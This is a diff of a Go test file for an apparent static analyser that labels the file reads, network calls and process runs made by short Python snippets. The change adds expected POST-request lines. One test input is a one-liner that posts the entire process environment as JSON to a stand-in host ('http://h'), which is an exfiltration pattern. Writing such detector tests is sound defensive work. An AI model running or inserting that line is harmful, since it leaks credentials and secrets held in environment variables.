@@ -16,7 +16,7 @@ var pythonFiles = []readCase{
 	{"walk", `import os
 for root, dirs, files in os.walk('/k'):
     for f in files: open(os.path.join(root, f))`, "reads open /k/?\nreads open /k/?/?"},
-	{"the environment as a whole", `import os, json, requests; requests.post('http://h', data=json.dumps(dict(os.environ)).encode())`, "connects requests.post \"http://h\"\nruns requests.post \"env\""},
+	{"the environment as a whole", `import os, json, requests; requests.post('http://h', data=json.dumps(dict(os.environ)).encode())`, "connects requests.post \"http://h\"\nasks requests.post \"POST\" \"http://h\" … \"\"\nruns requests.post \"env\""},
 	{"the environment for a command", `import os, subprocess; subprocess.run(['ls'], env=dict(os.environ)); print(os.environ['X'], len(os.environ))`, "runs subprocess.run \"ls\""},
 	{"settings that are read", `import configparser; c = configparser.ConfigParser(); c.read('s.ini')`, `reads configparser.ConfigParser().read "s.ini"`},
 	{"open reads", `open('a')`, `reads open "a"`},
@@ -44,9 +44,9 @@ func TestPythonFiles(t *testing.T) { runCases(t, "python3", pythonFiles) }
 
 var pythonNetwork = []readCase{
 	{"urlopen", `import urllib.request; urllib.request.urlopen('http://example.com')`, `connects urllib.request.urlopen "http://example.com"`},
-	{"urlopen of a request", `from urllib.request import *; urlopen(Request('http://example.com', data=x))`, `connects urllib.request.urlopen "http://example.com"`},
+	{"urlopen of a request", `from urllib.request import *; urlopen(Request('http://example.com', data=x))`, "asks urllib.request.Request \"POST\" \"http://example.com\" … \"\"\nconnects urllib.request.urlopen \"http://example.com\""},
 	{"urlretrieve", `from urllib.request import urlretrieve as u; u('http://example.com', '/etc/x')`, "connects urllib.request.urlretrieve \"http://example.com\"\nwrites urllib.request.urlretrieve \"/etc/x\""},
-	{"requests", `import requests; requests.post('http://example.com', data=x)`, `connects requests.post "http://example.com"`},
+	{"requests", `import requests; requests.post('http://example.com', data=x)`, "connects requests.post \"http://example.com\"\nasks requests.post \"POST\" \"http://example.com\" … \"\""},
 	{"requests session", `import requests; s = requests.Session(); s.get(u)`, `connects requests.Session().get …`},
 	{"socket", `import socket; s = socket.socket(); s.connect(('example.com', 80))`, `connects socket.socket().connect "example.com"`},
 	{"create_connection", `import socket; socket.create_connection(('example.com', 80))`, `connects socket.create_connection "example.com"`},
